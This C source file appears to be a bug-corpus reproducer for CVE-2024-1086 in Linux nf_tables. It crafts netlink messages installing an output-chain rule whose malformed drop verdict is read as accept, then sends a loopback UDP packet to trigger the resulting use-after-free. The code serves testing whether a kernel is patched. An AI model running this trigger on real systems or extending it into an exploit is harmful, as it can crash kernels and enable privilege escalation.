// SPDX-License-Identifier: GPL-2.0
/*
 * CVE-2024-1086 trigger, written for krr's bug corpus from the fix (f342de4e2f33): an nf_tables
 * table with an IPv4 output chain whose only rule is an immediate drop verdict carrying a
 * "negative errno" that nf_hook_slow() turns into 1, i.e. NF_ACCEPT. The first packet sent is
 * freed by the drop and then sent on by ip_local_out().
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/netfilter.h>
#include <linux/netfilter/nf_tables.h>
#include <linux/netfilter/nfnetlink.h>
#include <linux/netlink.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* NF_DROP in the low byte; NF_DROP_GETERR() of it is -(-0x10000) >> 16 = 1. */
#define DROP_AS_ACCEPT 0xffff0000u

static char buf[4096];
static size_t len;
static struct nlattr *nests[8];
static int depth;

static struct nlmsghdr *msg(int type, int flags, int family)
{
	struct nlmsghdr *nh = (struct nlmsghdr *)(buf + len);
	struct nfgenmsg *nfg = NLMSG_DATA(nh);

	nh->nlmsg_len = NLMSG_LENGTH(sizeof(*nfg));
	nh->nlmsg_type = type;
	nh->nlmsg_flags = NLM_F_REQUEST | flags;
	nh->nlmsg_seq = len + 1;
	nfg->nfgen_family = family;
	nfg->version = NFNETLINK_V0;
	nfg->res_id = htons(NFNL_SUBSYS_NFTABLES);
	len += NLMSG_ALIGN(nh->nlmsg_len);
	return nh;
}

/* Appends an attribute to the message being built (the last one in buf). */
static void attr(struct nlmsghdr *nh, int type, const void *data, int size)
{
	struct nlattr *a = (struct nlattr *)(buf + len);

	a->nla_type = type;
	a->nla_len = NLA_HDRLEN + size;
	memcpy((char *)a + NLA_HDRLEN, data, size);
	len += NLA_ALIGN(a->nla_len);
	nh->nlmsg_len = buf + len - (char *)nh;
}

static void str(struct nlmsghdr *nh, int type, const char *s)
{
	attr(nh, type, s, strlen(s) + 1);
}

static void be32(struct nlmsghdr *nh, int type, unsigned int v)
{
	v = htonl(v);
	attr(nh, type, &v, sizeof(v));
}

static void nest(struct nlmsghdr *nh, int type)
{
	nests[depth++] = (struct nlattr *)(buf + len);
	attr(nh, type | NLA_F_NESTED, NULL, 0);
}

static void end(struct nlmsghdr *nh)
{
	struct nlattr *a = nests[--depth];

	a->nla_len = buf + len - (char *)a;
	nh->nlmsg_len = buf + len - (char *)nh;
}

int main(void)
{
	struct sockaddr_nl kernel = { .nl_family = AF_NETLINK };
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9) };
	struct nlmsghdr *nh;
	char reply[4096];
	ssize_t n;
	int nl, udp, acks = 0;

	nl = socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER);
	if (nl < 0) {
		perror("netlink");
		return 1;
	}
	msg(NFNL_MSG_BATCH_BEGIN, 0, AF_UNSPEC);
	nh = msg(NFNL_SUBSYS_NFTABLES << 8 | NFT_MSG_NEWTABLE, NLM_F_CREATE | NLM_F_ACK, NFPROTO_IPV4);
	str(nh, NFTA_TABLE_NAME, "krr");
	nh = msg(NFNL_SUBSYS_NFTABLES << 8 | NFT_MSG_NEWCHAIN, NLM_F_CREATE | NLM_F_ACK, NFPROTO_IPV4);
	str(nh, NFTA_CHAIN_TABLE, "krr");
	str(nh, NFTA_CHAIN_NAME, "out");
	nest(nh, NFTA_CHAIN_HOOK);
	be32(nh, NFTA_HOOK_HOOKNUM, NF_INET_LOCAL_OUT);
	be32(nh, NFTA_HOOK_PRIORITY, 0);
	end(nh);
	str(nh, NFTA_CHAIN_TYPE, "filter");
	nh = msg(NFNL_SUBSYS_NFTABLES << 8 | NFT_MSG_NEWRULE, NLM_F_CREATE | NLM_F_APPEND | NLM_F_ACK,
		 NFPROTO_IPV4);
	str(nh, NFTA_RULE_TABLE, "krr");
	str(nh, NFTA_RULE_CHAIN, "out");
	nest(nh, NFTA_RULE_EXPRESSIONS);
	nest(nh, NFTA_LIST_ELEM);
	str(nh, NFTA_EXPR_NAME, "immediate");
	nest(nh, NFTA_EXPR_DATA);
	be32(nh, NFTA_IMMEDIATE_DREG, NFT_REG_VERDICT);
	nest(nh, NFTA_IMMEDIATE_DATA);
	nest(nh, NFTA_DATA_VERDICT);
	be32(nh, NFTA_VERDICT_CODE, DROP_AS_ACCEPT);
	end(nh);
	end(nh);
	end(nh);
	end(nh);
	end(nh);
	msg(NFNL_MSG_BATCH_END, 0, AF_UNSPEC);
	if (sendto(nl, buf, len, 0, (struct sockaddr *)&kernel, sizeof(kernel)) < 0) {
		perror("sendto nfnetlink");
		return 1;
	}
	/* One acknowledgement per table, chain and rule; a fixed kernel refuses the rule. */
	while (acks < 3 && (n = recv(nl, reply, sizeof(reply), 0)) > 0) {
		for (nh = (struct nlmsghdr *)reply; NLMSG_OK(nh, n); nh = NLMSG_NEXT(nh, n)) {
			int err = nh->nlmsg_type == NLMSG_ERROR ?
				  ((struct nlmsgerr *)NLMSG_DATA(nh))->error : -EPROTO;

			if (err) {
				fprintf(stderr, "nf_tables message %u: %s\n", nh->nlmsg_seq, strerror(-err));
				return 1;
			}
			acks++;
		}
	}
	printf("table, chain and rule added\n");
	udp = socket(AF_INET, SOCK_DGRAM, 0);
	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (udp < 0 || sendto(udp, "krr", 3, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		printf("sendto: %s\n", strerror(errno));
	printf("no report: the kernel is not vulnerable\n");
	return 0;
}
